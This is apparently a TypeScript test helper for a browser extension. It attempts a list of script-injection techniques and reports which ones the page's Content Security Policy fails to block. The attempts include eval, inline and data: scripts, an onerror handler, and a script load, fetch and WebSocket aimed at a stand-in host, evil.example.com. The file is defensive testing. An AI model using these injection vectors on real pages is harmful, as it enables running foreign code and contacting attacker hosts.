/** A page that gets a mark when something ran in it that must not. */
export type Marked = Window & { ran?: unknown; refused?: string[] };

/**
 * Runs in a page of the extension: all that an injected script could try. Gives what was not refused by an error.
 * @param mayFetch its policy lets it ask any https host, for a gateway's sake: then it is not tried
 */
export async function tryToRun(mayFetch: boolean): Promise<string[]> {
  const here = window as Marked;
  const refused: string[] = [];
  here.refused = refused;
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
    if (disposition === 'enforce') refused.push(effectiveDirective);
  });
  // Whoever evaluates from outside may do what the page may not, until the page's own next task.
  await new Promise((resolve) => window.setTimeout(resolve, 0));
  const add = (name: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    if (text) element.append(text);
    document.body.append(element);
    element.remove();
  };
  const page = window as unknown as {
    eval(code: string): unknown;
    Function: new (code: string) => () => unknown;
    setTimeout(code: string): unknown;
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };
  const evil = 'https://evil.example.com/';
  const tries: Record<string, () => unknown> = {
    eval: () => page.eval('window.ran = "eval"'),
    Function: () => new page.Function('window.ran = "Function"')(),
    timer: () => page.setTimeout('window.ran = "timer"'),
    'inline script': () => add('script', {}, 'window.ran = "inline"'),
    'data script': () => add('script', { src: 'data:text/javascript,window.ran="data"' }),
    'foreign script': () => add('script', { src: `${evil}x.js` }),
    'event handler': () => add('img', { src: 'data:,', onerror: 'window.ran = "handler"' }),
    innerHTML: () => {
      document.createElement('div').innerHTML = '<b>x</b>';
    },
    insertAdjacentHTML: () => document.createElement('div').insertAdjacentHTML('beforeend', '<b>x</b>'),
    parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'another policy': () => page.trustedTypes.createPolicy('evil', {}),
    'foreign picture': () => add('img', { src: `${evil}x.png` }),
    // Chromium opens a connection, if no more, to the host of a frame before the policy refuses it: to a known one here.
    frame: () => add('iframe', { src: 'https://app.chatra.io/' }),
    ...(!mayFetch && { fetch: () => fetch(evil) }),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://evil.example.com/');
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    worker: () => new Worker('data:text/javascript,1'),
    import: () => import(String('data:text/javascript,window.ran="import"')),
  };
  const done: string[] = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      done.push(name);
    } catch {
      // Refused by an error.
    }
  }
  return done;
}
